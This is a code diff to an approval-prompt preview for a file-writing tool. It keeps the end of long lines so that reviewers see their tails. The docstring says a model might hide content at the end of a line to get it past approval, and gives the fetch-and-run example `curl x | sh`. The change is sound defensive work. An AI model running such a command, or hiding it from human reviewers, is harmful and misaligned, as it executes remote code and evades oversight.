@@ -17,7 +17,8 @@ from writes import existing, links_note
 
 SMALL_FILE = 1_000_000  # bytes: write_file's preview diffs the old and new text only when both are smaller
 PREVIEW_LINES = 20  # lines of a diff, or of a new text's start, that the approval prompt shows
-PREVIEW_WIDTH = 300  # characters of one line in a preview; a longer line is cut
+PREVIEW_WIDTH = 300  # characters of one line in a preview; a longer line is cut in the middle
+PREVIEW_TAIL = 80  # of those, the characters of a cut line's end
 
 Show = typing.Callable[[str], str]
 
@@ -110,7 +111,11 @@ def first_lines(text: str, show: Show) -> str:
 
 
 def clipped(line: str, show: Show) -> str:
-    """A line of a preview, shown as one line, cut at PREVIEW_WIDTH characters with a note of how many more
-    there were."""
+    """A line of a preview, shown as one line: a line longer than PREVIEW_WIDTH characters keeps its start and
+    its last PREVIEW_TAIL, with a note of how many were left out between (the end of a line is where a model
+    would put what it hopes goes unseen: `...; curl x | sh`)."""
     cut = len(line) - PREVIEW_WIDTH
-    return show(line) if cut <= 0 else f"{show(line[:PREVIEW_WIDTH])}... ({cut} more characters)"
+    if cut <= 0:
+        return show(line)
+    head, tail = line[:PREVIEW_WIDTH - PREVIEW_TAIL], line[-PREVIEW_TAIL:]
+    return f"{show(head)} [... {cut:,} characters left out ...] {show(tail)}"
